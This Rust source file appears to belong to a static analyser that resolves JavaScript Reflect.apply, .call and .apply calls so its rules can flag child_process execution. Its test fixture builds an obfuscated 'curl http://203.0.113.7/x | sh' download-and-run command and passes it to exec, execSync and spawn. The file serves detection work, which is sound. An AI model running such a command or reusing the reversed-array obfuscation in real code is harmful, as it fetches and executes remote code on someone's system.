//! Calls that reach a function through the language's call helpers: `Reflect.apply(cp.exec, cp, [line])`,
//! `execSync.call(null, line)`, `run.apply(null, [line])`. Each runs the function with the listed
//! arguments, so the evaluator renders the call as that function called directly (`cp.exec(line)`), and
//! the rules that know the function read it. Only a function the evaluator resolves to something that
//! connects, spawns or runs code is forwarded; `Array.prototype.slice.call(arguments)` stays as written.

use super::super::{calls, evaluates_code, runs_code};
use super::values::Value;
use super::Walker;
use crate::fields::FieldChild;
use tree_sitter::Node;

impl<'t> Walker<'t, '_> {
    /// The function a call helper runs and the arguments it passes, when `function(arguments)` is one.
    pub(super) fn forwarded(
        &mut self,
        function: Node<'t>,
        arguments: Node<'t>,
    ) -> Option<(Node<'t>, Vec<Node<'t>>)> {
        if function.kind() != "member_expression" {
            return None;
        }
        let object = function.field_child("object")?;
        let property = self.src(function.field_child("property")?);
        let mut cursor = arguments.walk();
        let list: Vec<Node<'t>> = arguments
            .named_children(&mut cursor)
            .filter(|a| a.kind() != "comment")
            .collect();
        let (target, passed) = match (self.src(object), property) {
            ("Reflect", "apply") => (*list.first()?, array_items(*list.get(2)?)?),
            (_, "call") => (object, list.get(1..).map(<[_]>::to_vec).unwrap_or_default()),
            (_, "apply") => (
                object,
                match list.get(1) {
                    Some(array) => array_items(*array)?,
                    None => Vec::new(),
                },
            ),
            _ => return None,
        };
        let Some(Value::Name { path, .. }) = self.eval(target, 0) else {
            return None;
        };
        let sink = runs_code(&path)
            || evaluates_code(&path, false)
            || calls::classify(&path, false).is_some();
        sink.then_some((target, passed))
    }
}

/// The items of an array literal, with no spread.
fn array_items(node: Node) -> Option<Vec<Node>> {
    if node.kind() != "array" {
        return None;
    }
    let mut cursor = node.walk();
    let items: Vec<Node> = node
        .named_children(&mut cursor)
        .filter(|a| a.kind() != "comment")
        .collect();
    (!items.iter().any(|i| i.kind() == "spread_element")).then_some(items)
}

#[cfg(test)]
mod tests {
    use crate::native::evaluate::tests::javascript;

    #[test]
    fn call_helpers_render_as_the_function_they_run() {
        let found = javascript(concat!(
            "const cp = require('child_process');\n",
            "const line = ['sh', '|', 'http://203.0.113.7/x', 'curl'].slice().reverse().join(' ');\n",
            "Reflect.apply(cp.exec, cp, [line, () => {}]);\n",
            "cp.execSync.call(null, line);\n",
            "cp.spawn.apply(cp, ['sh', ['-c', line]]);\n",
        ));
        for want in [
            "cp.exec(\"curl",
            "cp.execSync(\"curl",
            "cp.spawn('sh', [\"-c\", \"curl",
        ] {
            assert!(
                found
                    .iter()
                    .any(|r| r.starts_with(want) && r.contains("curl http://203.0.113.7/x | sh")),
                "{want}: {found:?}"
            );
        }
    }

    #[test]
    fn call_helpers_of_other_functions_stay_as_written() {
        let found = javascript(concat!(
            "const parts = ['a', 'b'].reverse().join(' ');\n",
            "Array.prototype.slice.call(arguments, parts);\n",
            "Reflect.apply(console.log, console, [parts]);\n",
            "Math.max.apply(null, [parts]);\n",
        ));
        assert!(
            !found.iter().any(|r| r.contains("slice(")
                || r.contains("max(")
                || r.starts_with("console.log(")),
            "{found:?}"
        );
    }
}
